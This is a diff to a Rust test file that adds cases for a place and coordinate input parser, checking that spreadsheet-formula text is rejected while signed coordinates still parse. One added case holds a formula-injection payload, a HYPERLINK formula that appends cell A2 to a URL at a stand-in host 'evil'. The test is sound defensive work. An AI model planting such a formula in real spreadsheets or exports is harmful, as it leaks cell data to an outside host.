@@ -145,6 +145,15 @@ fn cases() -> Vec<(Input, Want)> {
         (t("Hethersett"), Places),
         (t("Ollands Road, Reepham"), Places),
         (t("10 Qwxyz Zzkq"), Error("place_not_found", &[])),
+        // Text a spreadsheet would run as a formula is never read (issue 18, item 3), but a
+        // point is a point whatever its sign.
+        (
+            t("=HYPERLINK(\"http://evil/?\"&A2,\"NR1 1AA\")"),
+            Error("formula_text", &[]),
+        ),
+        (t("@NR1 1AA"), Error("formula_text", &[])),
+        (t("+NR1 1AA"), Error("formula_text", &[])),
+        (t("52.626650, +1.309339"), Point("52.62665,1.309339")),
     ]
 }
 
